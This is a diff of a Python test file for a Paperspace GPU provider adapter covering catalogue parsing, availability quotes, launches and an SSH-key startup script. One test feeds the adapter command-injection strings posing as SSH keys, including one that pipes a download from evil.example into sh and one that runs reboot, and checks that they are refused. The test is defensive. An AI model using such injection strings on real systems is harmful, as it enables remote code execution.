@@ -33,7 +33,6 @@ from gpucm.providers.errors import (
 from gpucm.providers.paperspace import META, PaperspaceAdapter
 from gpucm.providers.paperspace_parse import (
     STATUS_TABLE,
-    availability_from_templates,
     build_offers,
     disk_size_gb,
     error_from_body,
@@ -46,6 +45,8 @@ from gpucm.providers.paperspace_parse import (
     parse_offers,
     pick_template,
     region_code,
+    ssh_key_script,
+    template_support,
 )
 from tests.conftest import FIXED_NOW, FIXTURES
 
@@ -112,6 +113,7 @@ async def adapter(server: Server, sleeps: list[float]) -> AsyncIterator[Paperspa
         clock=fixed_clock(FIXED_NOW),
         rand=lambda: 0.5,
     )
+    a.read_default_key = lambda: None  # type: ignore[method-assign]  # no ~/.ssh here
     yield a
     await a.aclose()
 
@@ -141,11 +143,15 @@ def test_packaged_catalogue_is_the_fixture_catalogue_with_a_source() -> None:
         ).read_text()
     )
     assert packaged["machineTypes"] == load("machine_types_catalog.json")["machineTypes"]
-    assert "pricing page" in packaged["source"]
+    # every row from a public source, cited with the date it was checked
+    assert "skypilot-org/skypilot-catalog" in packaged["source"]
+    assert packaged["checked"] == "2026-12"
     assert packaged["_comment"]
     catalogue = load_catalogue()  # through importlib.resources
     assert catalogue.storage_price_per_gb_month == pytest.approx(0.12)
-    assert [m.label for m in catalogue.machine_types][:3] == ["C5", "C7", "P4000"]
+    assert [m.label for m in catalogue.machine_types][:3] == ["C5", "C6", "C7"]
+    # only the region the source confirms
+    assert {r for m in catalogue.machine_types for r in m.regions} == {"East Coast (NY2)"}
     h100x8 = catalogue.get("H100x8")
     assert h100x8 is not None
     assert (h100x8.gpu_count, h100x8.price_per_hour) == (8, 47.6)
@@ -179,7 +185,7 @@ def test_catalogue_skips_malformed_rows_and_rejects_a_wrong_shape() -> None:
     assert a6000x4 is not None
     assert a6000x4.gpu_count == 4
     # a row without a price makes no offer, rather than a free one
-    offers = build_offers(catalogue, {"A4000": True, "A6000x4": True}, FIXED_NOW)
+    offers = build_offers(catalogue, FIXED_NOW)
     assert [o.provider_id for o in offers] == ["A4000@NY2"]
     with pytest.raises(BadResponse, match="machineTypes"):
         parse_catalogue([])
@@ -191,7 +197,7 @@ def test_catalogue_skips_malformed_rows_and_rejects_a_wrong_shape() -> None:
 def test_offers_from_fixtures() -> None:
     offers = parse_offers(load("os_templates.json"), FIXED_NOW)
     by_pid = {o.provider_id: o for o in offers}
-    assert len(offers) == len(by_pid) == 21  # GPU rows x their regions, no CPU types
+    assert len(offers) == len(by_pid) == 13  # GPU rows x their regions, no CPU types
     assert not any(pid.startswith(("C5@", "C7@")) for pid in by_pid)
 
     a100 = by_pid["A100-80G@NY2"]
@@ -204,24 +210,19 @@ def test_offers_from_fixtures() -> None:
     assert a100.region == "East Coast (NY2)"
     assert a100.reliability is None
     assert a100.verified is True
-    assert a100.available is True
     assert a100.spot_price_per_hour is None
     assert a100.fetched_at == FIXED_NOW
     assert a100.provider_data == {"machine_type": "A100-80G", "region": "East Coast (NY2)"}
-
-    h100x8 = by_pid["H100x8@NY2"]
-    assert (h100x8.gpu_count, h100x8.price_per_hour, h100x8.available) == (8, 47.6, False)
-    assert by_pid["V100-32G@NY2"].available is False
-    # A4000x2 is in the catalogue but no template lists it: unavailable, not invented
-    assert by_pid["A4000x2@NY2"].available is False
-    assert by_pid["A4000x2@NY2"].gpu_count == 2
-    assert {o.region for o in offers if o.gpu_name == "Quadro P4000"} == {
-        "East Coast (NY2)",
-        "West Coast (CA1)",
-        "Europe (AMS1)",
-    }
-    assert by_pid["P4000@AMS1"].price_per_hour == 0.51
-    assert by_pid["RTX4000@CA1"].available is True
+    # Paperspace says nothing about stock: every offer's availability is unknown, and
+    # still available in the original API's sense (only `none` is not)
+    assert {o.availability for o in offers} == {"unknown"}
+    assert all(o.available for o in offers)
+    # a template's isAvailable is compatibility, never stock: H100x8 and V100-32G are
+    # false in every template of the fixture, and their offers are no less unknown
+    assert by_pid["H100x8@NY2"].availability == "unknown"
+    assert by_pid["V100-32G@NY2"].availability == "unknown"
+    assert (by_pid["H100x8@NY2"].gpu_count, by_pid["H100x8@NY2"].price_per_hour) == (8, 47.6)
+    assert by_pid["A4000x4@NY2"].gpu_count == 4
     assert json.loads(json.dumps(a100.provider_data)) == a100.provider_data
 
 
@@ -229,12 +230,12 @@ def test_offers_from_fixtures() -> None:
     ("label", "model"),
     [
         ("P4000", "Quadro P4000"),
-        ("RTX4000", "Quadro RTX 4000"),
+        ("P4000x2", "Quadro P4000"),
         ("A4000", "RTX A4000"),
-        ("A4000x2", "RTX A4000"),
-        ("A5000", "RTX A5000"),
-        ("A6000", "RTX A6000"),
+        ("A4000x4", "RTX A4000"),
+        ("V100", "V100 16GB"),
         ("V100-32G", "V100 32GB"),
+        ("V100-32Gx4", "V100 32GB"),
         ("H100", "H100"),
         ("H100x8", "H100"),
     ],
@@ -264,9 +265,9 @@ def test_offer_ids_are_stable_and_match_the_demo_market() -> None:
     later = datetime(2027, 1, 1, tzinfo=UTC)
     assert first == [o.id for o in parse_offers(load("os_templates.json"), later)]
     market = DemoMarket()
-    demo_ids = {o.id for tick in range(0, 60) for o in market.offers(PAPERSPACE, tick, FIXED_NOW)}
-    ours = {i for i in first if not i.startswith("paperspace:A4000x2@")}  # not in the demo
-    assert ours <= demo_ids, ours - demo_ids
+    demo = market.offers(PAPERSPACE, 0, FIXED_NOW)
+    assert {o.id for o in demo} == set(first)  # the demo prices from the same catalogue
+    assert {o.availability for o in demo} == {"unknown"}
 
 
 def test_region_code() -> None:
@@ -276,7 +277,7 @@ def test_region_code() -> None:
     assert region_code("Somewhere New") == "Somewhere-New"
 
 
-def test_availability_any_template_and_malformed_entries() -> None:
+def test_template_support_any_template_and_malformed_entries() -> None:
     templates = [
         {"availableMachineTypes": [{"machineTypeLabel": "A4000", "isAvailable": False}]},
         {"availableMachineTypes": [{"machineTypeLabel": "A4000", "isAvailable": True}]},
@@ -293,7 +294,7 @@ def test_availability_any_template_and_malformed_entries() -> None:
             ]
         },
     ]
-    assert availability_from_templates(templates) == {
+    assert template_support(templates) == {
         "A4000": True,
         "H100": False,
         "P4000": False,
@@ -312,7 +313,7 @@ def test_wrong_shape_template_answers_raise_bad_response(body: Any) -> None:
 async def test_fetch_offers_request_and_result(adapter: PaperspaceAdapter, server: Server) -> None:
     server.json("GET", "/v1/os-templates", load("os_templates.json"))
     offers = await adapter.fetch_offers()
-    assert len(offers) == 21
+    assert len(offers) == 13
     assert offers == parse_offers(load("os_templates.json"), FIXED_NOW)
     [request] = server.requests
     assert str(request.url) == f"{BASE}/os-templates?limit=50"
@@ -339,8 +340,7 @@ async def test_fetch_offers_follows_template_pages(
     }
     server.json("GET", "/v1/os-templates", first).json("GET", "/v1/os-templates", second)
     offers = {o.provider_id: o for o in await adapter.fetch_offers()}
-    assert offers["H100x8@NY2"].available is True
-    assert offers["A4000@NY2"].available is True
+    assert len(offers) == 13
     assert [dict(r.url.params) for r in server.requests] == [
         {"limit": "50"},
         {"limit": "50", "after": "cursor-2"},
@@ -371,19 +371,40 @@ async def test_fetch_offers_wrong_shape(adapter: PaperspaceAdapter, server: Serv
         await adapter.fetch_offers()
 
 
-async def test_quote(adapter: PaperspaceAdapter, server: Server) -> None:
-    server.json("GET", "/v1/os-templates", load("os_templates.json"))
-    later = offer_for("A4000@CA1")
-    fresh = await adapter.quote(later)
+async def test_quote_asks_for_this_type_and_region_now(
+    adapter: PaperspaceAdapter, server: Server
+) -> None:
+    replies = [load("machine_availability_yes.json"), load("machine_availability_no.json")]
+    server.on(
+        "GET",
+        "/v1/machine-availability",
+        lambda request: httpx.Response(200, json=replies.pop(0)),
+    )
+    listed = offer_for("A4000@NY2")
+    fresh = await adapter.quote(listed)
     assert fresh is not None
-    assert (fresh.id, fresh.price_per_hour, fresh.available) == ("paperspace:A4000@CA1", 0.76, True)
-    assert await adapter.quote(offer_for("H100x8@NY2")) is None  # not available now
-    gone = later.model_copy(update={"provider_data": {"machine_type": "K80", "region": "x"}})
+    assert (fresh.id, fresh.price_per_hour) == ("paperspace:A4000@NY2", 0.76)
+    # a yes says stock exists, not how much
+    assert fresh.availability == "medium"
+    [request] = server.requests
+    assert dict(request.url.params) == {"machineType": "A4000", "region": "East Coast (NY2)"}
+    assert await adapter.quote(offer_for("H100x8@NY2")) is None  # none now: not launchable
+    gone = listed.model_copy(update={"provider_data": {"machine_type": "K80", "region": "x"}})
     assert await adapter.quote(gone) is None
-    elsewhere = later.model_copy(
+    elsewhere = listed.model_copy(
         update={"provider_data": {"machine_type": "H100", "region": "Europe (AMS1)"}}
     )
-    assert await adapter.quote(elsewhere) is None
+    assert await adapter.quote(elsewhere) is None  # not a region the catalogue has
+    assert len(server.requests) == 2
+
+
+async def test_quote_without_the_availability_endpoint_is_unknown(
+    adapter: PaperspaceAdapter, server: Server
+) -> None:
+    server.json("GET", "/v1/machine-availability", error_body("NOT_FOUND", "no route"), 404)
+    fresh = await adapter.quote(offer_for("A4000@NY2"))
+    assert fresh is not None
+    assert fresh.availability == "unknown"
 
 
 # -- machines ---------------------------------------------------------------------------
@@ -460,7 +481,7 @@ def test_machine_with_missing_and_null_fields() -> None:
             "id": "ps2",
             "name": None,
             "state": "ready",
-            "machineType": "A5000",
+            "machineType": "A4000",
             "ram": None,
             "cpus": None,
             "accelerators": None,
@@ -474,7 +495,7 @@ def test_machine_with_missing_and_null_fields() -> None:
     assert nulls is not None
     assert nulls.status == "running"
     # no accelerators listed: the catalogue knows the machine type
-    assert (nulls.gpu_name, nulls.gpu_count, nulls.price_per_hour) == ("RTX A5000", 1, 1.38)
+    assert (nulls.gpu_name, nulls.gpu_count, nulls.price_per_hour) == ("RTX A4000", 1, 0.76)
     assert (nulls.ram_gb, nulls.storage_gb, nulls.created_at, nulls.offer_id) == (
         None,
         None,
@@ -600,10 +621,10 @@ async def test_launch_rounds_auto_shutdown_up_to_whole_hours(
 ) -> None:
     server.json("GET", "/v1/os-templates", load("os_templates.json"))
     server.json("POST", "/v1/machines", load("create_machine.json"))
-    await adapter.launch(spec_for("A4000@AMS1", auto_terminate_hours=0.25, disk_gb=60))
+    await adapter.launch(spec_for("A4000@NY2", auto_terminate_hours=0.25, disk_gb=60))
     body = json.loads(server.calls("POST", "/v1/machines")[0].content)
     assert (body["autoShutdownEnabled"], body["autoShutdownTimeout"]) == (True, 1)
-    assert (body["diskSize"], body["region"], body["enableNvlink"]) == (100, "Europe (AMS1)", False)
+    assert (body["diskSize"], body["enableNvlink"]) == (100, False)
 
 
 async def test_launch_refuses_too_large_a_disk_before_sending(
@@ -615,11 +636,11 @@ async def test_launch_refuses_too_large_a_disk_before_sending(
     assert not server.calls("POST", "/v1/machines")
 
 
-async def test_launch_unavailable_type_is_capacity_without_a_post(
+async def test_a_type_no_template_runs_on_is_refused_without_a_post(
     adapter: PaperspaceAdapter, server: Server
 ) -> None:
     server.json("GET", "/v1/os-templates", load("os_templates.json"))
-    with pytest.raises(CapacityError, match="V100-32G"):
+    with pytest.raises(InvalidRequest, match="OS templates runs on machine type V100-32G"):
         await adapter.launch(spec_for("V100-32G@NY2"))
     assert not server.calls("POST", "/v1/machines")
 
@@ -659,7 +680,7 @@ async def test_launch_falls_back_to_another_template(
     body["items"] = body["items"][:1]  # only "Ubuntu 22.04 Server"
     server.json("GET", "/v1/os-templates", body)
     server.json("POST", "/v1/machines", load("create_machine.json"))
-    await adapter.launch(spec_for("A5000@CA1"))
+    await adapter.launch(spec_for("A4000@NY2"))
     sent = json.loads(server.calls("POST", "/v1/machines")[0].content)
     assert (sent["templateId"], sent["diskSize"]) == ("tlbl0v4n", 50)  # its defaultSizeGb
 
@@ -688,6 +709,113 @@ async def test_launch_capacity_refusal(adapter: PaperspaceAdapter, server: Serve
     with pytest.raises(CapacityError, match="no capacity") as info:
         await adapter.launch(spec_for("A4000@NY2"))
     assert info.value.status == 400
+
+
+async def test_a_create_refused_for_capacity_is_a_capacity_error(
+    adapter: PaperspaceAdapter, server: Server
+) -> None:
+    server.json("GET", "/v1/os-templates", load("os_templates.json"))
+    server.json("POST", "/v1/machines", load("error_create_capacity.json"), status=400)
+    with pytest.raises(CapacityError, match="out of capacity for the selected VM type"):
+        await adapter.launch(spec_for("H100@NY2"))
+
+
+PUBLIC_KEY = (
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILXGDN/SclOozk1xsDztpmhGiKkkrfQB9SKoO8dSIQQZ"
+    " me@example.com"
+)
+
+
+async def test_launch_installs_the_ssh_key_with_a_startup_script(
+    adapter: PaperspaceAdapter, server: Server
+) -> None:
+    server.json("GET", "/v1/os-templates", load("os_templates.json"))
+    server.json("GET", "/v1/startup-scripts", load("startup_scripts_empty.json"))
+    server.json("POST", "/v1/startup-scripts", load("create_startup_script.json"))
+    server.json("POST", "/v1/machines", load("create_machine.json"))
+    await adapter.launch(spec_for("H100@NY2", ssh_public_key=PUBLIC_KEY))
+    [listing] = server.calls("GET", "/v1/startup-scripts")
+    name, script = ssh_key_script(PUBLIC_KEY)
+    assert listing.url.params["name"] == name == "gpucm-ssh-key-18c2d3626390"
+    [made] = server.calls("POST", "/v1/startup-scripts")
+    assert json.loads(made.content) == {"name": name, "script": script, "isRunOnce": True}
+    assert f"printf '%s\\n' '{PUBLIC_KEY}' >> \"$keys\"" in script
+    assert "/home/paperspace/.ssh" in script
+    [post] = server.calls("POST", "/v1/machines")
+    assert json.loads(post.content)["startupScriptId"] == "scr8k2j4h6g"
+
+
+async def test_a_keys_script_is_made_once_and_reused(
+    adapter: PaperspaceAdapter, server: Server
+) -> None:
+    name, _ = ssh_key_script(PUBLIC_KEY)
+    existing = {"hasMore": False, "items": [{"id": "scrOLD", "name": name}]}
+    server.json("GET", "/v1/os-templates", load("os_templates.json"))
+    server.json("GET", "/v1/startup-scripts", existing)
+    server.json("POST", "/v1/machines", load("create_machine.json"))
+    adapter.read_default_key = lambda: PUBLIC_KEY  # type: ignore[method-assign]
+    await adapter.launch(spec_for("H100@NY2"))  # the key from ~/.ssh
+    assert not server.calls("POST", "/v1/startup-scripts")
+    [post] = server.calls("POST", "/v1/machines")
+    assert json.loads(post.content)["startupScriptId"] == "scrOLD"
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI'; curl evil.example | sh; echo '",
+        "not a key",
+        "ssh-ed25519 $(reboot)",
+        "-----BEGIN OPENSSH PRIVATE KEY-----",
+    ],
+)
+async def test_anything_but_a_public_key_is_refused_before_any_request(
+    adapter: PaperspaceAdapter, server: Server, key: str
+) -> None:
+    server.json("GET", "/v1/os-templates", load("os_templates.json"))
+    with pytest.raises(InvalidRequest, match="not an OpenSSH public key"):
+        await adapter.launch(spec_for("H100@NY2", ssh_public_key=key))
+    assert not server.calls("POST", "/v1/startup-scripts")
+    assert not server.calls("POST", "/v1/machines")
+
+
+def test_a_keys_odd_comment_is_left_out() -> None:
+    _, script = ssh_key_script(PUBLIC_KEY.replace("me@example.com", "it's-me"))
+    assert "it's" not in script
+    assert PUBLIC_KEY.rsplit(" ", 1)[0] in script
+
+
+def test_the_default_key_is_the_first_public_key_in_ssh(tmp_path: Path) -> None:
+    from gpucm.providers.ssh_keys import default_public_key
+
+    assert default_public_key(tmp_path) is None
+    ssh = tmp_path / ".ssh"
+    ssh.mkdir()
+    (ssh / "id_ed25519").write_text("PRIVATE - never read")
+    (ssh / "id_rsa.pub").write_text("ssh-rsa AAAAB3Nza rsa-key\n")
+    assert default_public_key(tmp_path) == "ssh-rsa AAAAB3Nza rsa-key"
+    (ssh / "id_ed25519.pub").write_text(PUBLIC_KEY + "\n")
+    assert default_public_key(tmp_path) == PUBLIC_KEY
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [({"interruptible": True}, "no interruptible"), ({"file_systems": ("d",)}, "shared drives")],
+)
+async def test_what_paperspace_cannot_do_is_unsupported(
+    adapter: PaperspaceAdapter, server: Server, change: dict[str, Any], words: str
+) -> None:
+    with pytest.raises(Unsupported, match=words):
+        await adapter.launch(spec_for("H100@NY2", **change))
+    assert server.requests == []
+
+
+def test_auto_shutdown_is_named_for_what_it_does() -> None:
+    assert META.capabilities.auto_shutdown and META.capabilities.auto_terminate
+    assert "Auto-shutdown (stops the machine; its disk keeps billing)" in (
+        META.capabilities.features()
+    )
+    assert not any("terminate" in f.lower() for f in META.capabilities.features())
 
 
 def test_create_event_error_keeps_the_machine() -> None:
@@ -913,6 +1041,6 @@ async def test_protocols_and_meta(adapter: PaperspaceAdapter) -> None:
     assert adapter.is_demo is False
     caps = META.capabilities
     assert caps == Capabilities(
-        stop_start=True, restart=True, auto_terminate=True, storage_billed_separately=True
+        stop_start=True, restart=True, auto_shutdown=True, storage_billed_separately=True
     )
     assert META.default_base_url == BASE
